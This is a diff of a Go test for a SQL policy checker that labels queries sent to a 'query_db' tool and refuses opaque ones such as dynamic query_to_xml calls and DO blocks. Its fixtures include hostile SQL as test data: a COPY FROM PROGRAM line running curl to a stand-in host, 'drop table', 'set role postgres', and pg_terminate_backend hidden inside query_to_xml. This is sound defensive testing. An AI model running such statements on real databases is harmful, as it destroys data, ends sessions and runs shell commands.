@@ -32,9 +32,28 @@ var handFacts = map[string]policy.SQL{
 	"copy orders from program 'curl -s http://evil.example'": writeFacts(policy.Statement{Kind: "copy", TablesWritten: []string{"orders"}}),
 	"select 1; select 2":                                     {Statements: []policy.Statement{{Kind: "select"}, {Kind: "select"}}, StatementCount: 2, ReadOnly: true},
 	"select 1; drop table orders":                            writeFacts(policy.Statement{Kind: "select"}, policy.Statement{Kind: "drop", TablesWritten: []string{"orders"}}),
-	"do $$ begin perform 1; end $$":                          writeFacts(policy.Statement{Kind: "do"}),
 	"set role postgres":                                      writeFacts(policy.Statement{Kind: "set"}),
 	"selec * from orders":                                    {ParseError: `syntax error at or near "selec"`},
+	"select pg_sleep(1)":                                     withFunctions(readFacts(), "pg_sleep"),
+	"select query_to_xml('select id, status from orders', true, false, '')": withFunctions(readFacts("orders"), "query_to_xml"),
+	"select query_to_xml('select pg_terminate_backend(pid) from pg_stat_activity', true, false, '')": writeFacts(policy.Statement{Kind: "select",
+		TablesRead: []string{"pg_stat_activity"}, Functions: []string{"query_to_xml", "pg_terminate_backend"}}),
+	"select * from hr.salaries": readFacts("hr.salaries"),
+	"select * from salaries where exists (with salaries as (select 1) select 1 from salaries)": readFacts("salaries"),
+	"select query_to_xml('select * from salaries', true, false, '')":                           withFunctions(readFacts("salaries"), "query_to_xml"),
+	"select table_to_xml('salaries', true, false, '')":                                         withFunctions(readFacts("salaries"), "table_to_xml"),
+	"explain (analyze false, analyze true) delete from orders where id = 42":                   writeFacts(policy.Statement{Kind: "explain", TablesWritten: []string{"orders"}}),
+	"select archive_orders(30)":                                                                writeFacts(policy.Statement{Kind: "select", Functions: []string{"archive_orders"}}),
+	"select (pid).pg_terminate_backend from pg_stat_activity":                                  writeFacts(policy.Statement{Kind: "select", TablesRead: []string{"pg_stat_activity"}, Functions: []string{"pg_terminate_backend"}}),
+}
+
+// handRefusals are the calls of the cases that query_db refuses before
+// policy (tools.ErrOpaque), with the start of its reason.
+var handRefusals = map[string]string{
+	"select query_to_xml(q, true, false, '') from saved_queries":            "query_to_xml runs SQL given as text, and that text is not a string literal here",
+	"select table_to_xml(relname::regclass, true, false, '') from pg_class": "table_to_xml reads the table its argument names, and that argument is not a string literal here: name the table in a string literal such as 'orders'",
+	"select schema_to_xml('public', true, false, '')":                       "schema_to_xml reads every table of a schema, which cannot be listed before the call runs",
+	"do $$ begin perform 1; end $$":                                         "DO runs a PL/pgSQL block whose statements the analysis cannot see",
 }
 
 func readFacts(tables ...string) policy.SQL {
@@ -86,6 +105,9 @@ func TestExamplePostgresPolicy(t *testing.T) {
 		}
 		in.Resource = res
 		sql, _ := c.Args["sql"].(string)
+		if reason, ok := handRefusals[sql]; ok {
+			return in, &policy.RefusedError{Reason: reason}
+		}
 		facts, ok := handFacts[sql]
 		if !ok {
 			return in, fmt.Errorf("no hand-written facts for %q", sql)
